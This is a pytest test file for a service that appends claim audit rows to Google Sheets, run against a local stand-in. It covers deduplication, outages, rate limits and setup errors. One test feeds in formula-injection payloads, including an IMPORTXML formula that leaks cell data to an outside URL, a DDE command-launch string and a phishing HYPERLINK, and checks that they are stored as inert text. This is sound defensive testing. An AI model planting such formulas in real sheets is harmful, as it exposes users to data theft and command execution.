"""SheetsAuditLog: real gspread over HTTP against the Google stand-in's Sheets routes."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import gspread
import pytest
import requests

from services.demo.google_standin import GoogleStandinState
from services.demo.google_standin.drive import DriveStore
from services.demo.google_standin.sheets import SheetsStore
from services.demo.ncb_standin import StandinServer
from services.records.audit import COLUMNS, AuditRow, RecordsMisconfigured, RecordsUnavailable
from services.records.sheets import SheetsAuditLog, check_access, create_spreadsheet

NOV, DEC = "Audit 2026-11", "Audit 2026-12"


def row(job_id: str, month: int = 12, **changes: Any) -> AuditRow:
    values: dict[str, Any] = {
        "job_id": job_id,
        "email_id": f"msg-{job_id}",
        "received_at": datetime(2026, month, 3, 9, 30, tzinfo=UTC),
        "sender": "a***@example.com",
        "attachment": "receipt.jpg",
        "submitted_at": datetime(2026, month, 3, 9, 31, tzinfo=UTC),
        "ncb_reference": f"CLM-{job_id}",
        "amount": Decimal("150.00"),
        "tax_amount": Decimal("9.00"),
        "service_date": date(2026, month, 1),
        "invoice_number": "INV-1",
        "provider": "Klinik Example",
        "policy_number": "POL-1",
        "confidence": 0.93,
        "route": "submitted",
        "state": "submitted",
    }
    values.update(changes)
    return AuditRow(**values)


@pytest.fixture
def sheet_id(sheets_store: SheetsStore) -> str:
    return sheets_store.create("Claims audit")


@pytest.fixture
def audit(gspread_client: gspread.Client, sheet_id: str) -> SheetsAuditLog:
    return SheetsAuditLog(gspread_client, sheet_id)


def job_ids(store: SheetsStore, sheet: str, tab: str) -> list[str]:
    return [cells[0] for cells in store.rows(sheet, tab)[1:]]


def test_month_tabs_are_made_on_demand_with_a_frozen_header(
    audit: SheetsAuditLog, sheets_store: SheetsStore, sheet_id: str
):
    rows = [row("j1", 11), row("j2", 12), row("j3", 11), row("j4", 12)]
    assert audit.append_many(rows) == 4

    assert sheets_store.tabs(sheet_id) == ["Sheet1", NOV, DEC]
    for tab in (NOV, DEC):
        assert sheets_store.rows(sheet_id, tab)[0] == list(COLUMNS)
        assert sheets_store.frozen_rows(sheet_id, tab) == 1
    assert job_ids(sheets_store, sheet_id, NOV) == ["j1", "j3"]  # queue order kept
    assert job_ids(sheets_store, sheet_id, DEC) == ["j2", "j4"]
    stored = [AuditRow.from_cells(c) for c in sheets_store.rows(sheet_id, NOV)[1:]]
    assert stored == [rows[0], rows[2]]  # every field, the new ones too, round-trips
    assert sheets_store.input_options == ["RAW", "RAW"]  # one append per tab, never parsed


def test_the_same_rows_again_add_nothing(
    audit: SheetsAuditLog, gspread_client: gspread.Client, sheets_store: SheetsStore, sheet_id: str
):
    rows = [row("j1", 11), row("j2", 12)]
    assert audit.append_many(rows) == 2
    assert audit.append_many(rows) == 0
    audit.append(row("j1", 11, route="review"))  # same job, other content: still ignored
    # A new process (empty cache) learns what is there from the sheet itself.
    again = SheetsAuditLog(gspread_client, sheet_id)
    assert again.append_many([*rows, row("j3", 12)]) == 1

    assert job_ids(sheets_store, sheet_id, NOV) == ["j1"]
    assert job_ids(sheets_store, sheet_id, DEC) == ["j2", "j3"]
    assert again.contains("j1") and again.contains("j3") and not again.contains("j9")
    assert SheetsAuditLog(gspread_client, sheet_id).contains("j2")


def test_a_job_twice_in_one_call_is_written_once_first_wins(
    audit: SheetsAuditLog, sheets_store: SheetsStore, sheet_id: str
):
    first, later = row("j1"), row("j1", route="review")
    assert audit.append_many([first, row("j2"), later]) == 2
    assert [AuditRow.from_cells(c) for c in sheets_store.rows(sheet_id, DEC)[1:]] == [
        first,
        row("j2"),
    ]


def test_a_write_whose_reply_was_lost_is_not_repeated(
    audit: SheetsAuditLog,
    sheets_store: SheetsStore,
    sheet_id: str,
    monkeypatch: pytest.MonkeyPatch,
):
    """The append reached the sheet, the caller never heard: its retry adds nothing."""
    real_append = gspread.Worksheet.append_rows

    def append_then_drop(self: gspread.Worksheet, *args: Any, **kwargs: Any) -> Any:
        real_append(self, *args, **kwargs)
        raise requests.ConnectionError("connection reset after the request was sent")

    rows = [row("j1"), row("j2")]
    monkeypatch.setattr(gspread.Worksheet, "append_rows", append_then_drop)
    with pytest.raises(RecordsUnavailable):
        audit.append_many(rows)
    monkeypatch.setattr(gspread.Worksheet, "append_rows", real_append)

    assert audit.append_many([*rows, row("j3")]) == 1
    assert job_ids(sheets_store, sheet_id, DEC) == ["j1", "j2", "j3"]


def test_an_outage_keeps_rows_for_later_in_order(
    audit: SheetsAuditLog,
    google_state: GoogleStandinState,
    sheets_store: SheetsStore,
    sheet_id: str,
    monkeypatch: pytest.MonkeyPatch,
):
    rows = [row("j1", 11), row("j2", 12), row("j3", 11), row("j4", 12)]
    google_state.fail_for("sheets", 60)
    with pytest.raises(RecordsUnavailable) as down:
        audit.append_many(rows)
    assert "503" in str(down.value)
    assert sheets_store.tabs(sheet_id) == ["Sheet1"]
    google_state.clear_faults()

    # Back up, but the second tab's append fails: the first tab is written.
    real_append = gspread.Worksheet.append_rows
    calls = []

    def second_fails(self: gspread.Worksheet, *args: Any, **kwargs: Any) -> Any:
        calls.append(self.title)
        if len(calls) == 2:
            raise requests.Timeout("read timed out")
        return real_append(self, *args, **kwargs)

    monkeypatch.setattr(gspread.Worksheet, "append_rows", second_fails)
    with pytest.raises(RecordsUnavailable):
        audit.append_many(rows)
    monkeypatch.setattr(gspread.Worksheet, "append_rows", real_append)
    assert job_ids(sheets_store, sheet_id, NOV) == ["j1", "j3"]
    assert job_ids(sheets_store, sheet_id, DEC) == []

    assert audit.append_many(rows) == 2  # only what was missing
    assert job_ids(sheets_store, sheet_id, NOV) == ["j1", "j3"]
    assert job_ids(sheets_store, sheet_id, DEC) == ["j2", "j4"]
    assert sheets_store.rows(sheet_id, DEC)[0] == list(COLUMNS)


def test_over_quota_is_unavailable_with_a_retry_hint(
    audit: SheetsAuditLog,
    google_state: GoogleStandinState,
    sheets_store: SheetsStore,
    sheet_id: str,
):
    sheets_store.write_quota_per_minute = 1  # the addSheet passes, the append does not
    with pytest.raises(RecordsUnavailable) as over:
        audit.append_many([row("j1")])
    assert "429" in str(over.value)
    assert over.value.retry_after_s == 60.0  # Sheets names no wait: its quota window

    sheets_store.write_quota_per_minute = None
    google_state.fail_next("sheets", 429, retry_after_s=7)
    with pytest.raises(RecordsUnavailable) as told:
        audit.append_many([row("j1")])
    assert told.value.retry_after_s == 7.0

    google_state.fail_next("sheets", 403, reason="rateLimitExceeded")
    with pytest.raises(RecordsUnavailable):
        audit.append_many([row("j1")])
    assert audit.append_many([row("j1")]) == 1


def test_the_rate_limiter_stays_under_the_write_quota(
    gspread_client: gspread.Client, sheets_store: SheetsStore, sheet_id: str
):
    now = [1000.0]
    slept: list[float] = []

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        now[0] += seconds

    sheets_store.clock = lambda: now[0]  # the stand-in's quota runs on the same clock
    sheets_store.write_quota_per_minute = 3
    audit = SheetsAuditLog(
        gspread_client, sheet_id, writes_per_minute=3, clock=lambda: now[0], sleep=sleep
    )
    rows = [row(f"j{m}", m) for m in range(1, 6)]  # five new tabs: ten writes
    assert audit.append_many(rows) == 5

    times = sheets_store.write_times
    assert len(times) == 10
    assert all(sum(1 for t in times if start <= t < start + 60) <= 3 for start in times)
    assert slept and now[0] - 1000.0 >= 180  # ten writes at three a minute


def test_the_limiter_can_refuse_instead_of_sleeping_long(
    gspread_client: gspread.Client, sheet_id: str
):
    audit = SheetsAuditLog(
        gspread_client, sheet_id, writes_per_minute=1, max_wait_s=5, clock=lambda: 0.0
    )
    with pytest.raises(RecordsUnavailable) as busy:
        audit.append_many([row("j1")])  # addSheet takes the only write of the minute
    assert busy.value.retry_after_s == 60.0


def test_formula_looking_text_is_stored_as_text(
    audit: SheetsAuditLog, sheets_store: SheetsStore, sheet_id: str
):
    evil = row(
        "j1",
        sender='=IMPORTXML(CONCAT("http://x/?",A2),"//a")',
        attachment="=cmd|' /C calc'!A0.pdf",
        provider="+SUM(A1:A9)",
        invoice_number='=HYPERLINK("http://evil.example","pay")',
        policy_number="@POL",
    )
    audit.append_many([evil])
    cells = dict(zip(COLUMNS, sheets_store.rows(sheet_id, DEC)[1], strict=False))
    assert cells["invoice_number"] == "'" + evil.invoice_number  # type: ignore[operator]
    assert cells["sender"].startswith("'=") and cells["attachment"].startswith("'=")
    assert cells["provider"] == "'+SUM(A1:A9)" and cells["policy_number"] == "'@POL"
    assert sheets_store.formulas == []
    assert set(sheets_store.input_options) == {"RAW"}
    assert AuditRow.from_cells(sheets_store.rows(sheet_id, DEC)[1]) == evil


def test_a_tab_left_without_header_gets_it_first(
    audit: SheetsAuditLog, sheets_store: SheetsStore, sheet_id: str
):
    # A run that created the tab and died before writing anything.
    sheets_store.batch_update(
        sheet_id, {"requests": [{"addSheet": {"properties": {"title": DEC}}}]}
    )
    assert audit.append_many([row("j1")]) == 1
    assert sheets_store.rows(sheet_id, DEC)[0] == list(COLUMNS)
    assert job_ids(sheets_store, sheet_id, DEC) == ["j1"]


def test_wrong_or_unshared_spreadsheet_is_misconfigured(
    gspread_client: gspread.Client, google_state: GoogleStandinState, sheet_id: str
):
    with pytest.raises(RecordsMisconfigured, match="SHEETS_SPREADSHEET_ID"):
        SheetsAuditLog(gspread_client, "no-such-sheet").append_many([row("j1")])
    with pytest.raises(RecordsMisconfigured, match="SHEETS_SPREADSHEET_ID"):
        check_access(gspread_client, "no-such-sheet")

    google_state.fail_next("sheets", 403, reason="forbidden")
    with pytest.raises(RecordsMisconfigured, match="share the spreadsheet with the service"):
        SheetsAuditLog(gspread_client, sheet_id).append_many([row("j1")])
    with pytest.raises(RecordsMisconfigured, match="empty"):
        SheetsAuditLog(gspread_client, "")


def test_check_access_prepares_this_months_tab(
    gspread_client: gspread.Client, sheets_store: SheetsStore, sheet_id: str
):
    check_access(gspread_client, sheet_id)
    tab = f"Audit {datetime.now(UTC):%Y-%m}"
    assert sheets_store.rows(sheet_id, tab) == [list(COLUMNS)]
    check_access(gspread_client, sheet_id)  # again: nothing more
    assert sheets_store.rows(sheet_id, tab) == [list(COLUMNS)]


def test_unreachable_sheets_is_unavailable(audit: SheetsAuditLog, google_standin: StandinServer):
    google_standin.stop()
    with pytest.raises(RecordsUnavailable, match="unreachable"):
        audit.append_many([row("j1")])


def test_create_spreadsheet_returns_an_id_with_the_header(
    gspread_client: gspread.Client, sheets_store: SheetsStore, drive_store: DriveStore
):
    sheet = create_spreadsheet(
        gspread_client,
        "claims-ocr audit",
        now=datetime(2026, 12, 1, tzinfo=UTC),
        share_with=["ops@example.com"],
    )
    assert sheets_store.tabs(sheet) == [DEC]  # the default "Sheet1" is gone
    assert sheets_store.rows(sheet, DEC) == [list(COLUMNS)]
    assert sheets_store.frozen_rows(sheet, DEC) == 1
    assert [(fid, p["emailAddress"], p["role"]) for fid, p in drive_store.permissions] == [
        (sheet, "ops@example.com", "writer")
    ]
    # And the log writes into it straight away.
    assert SheetsAuditLog(gspread_client, sheet).append_many([row("j1")]) == 1
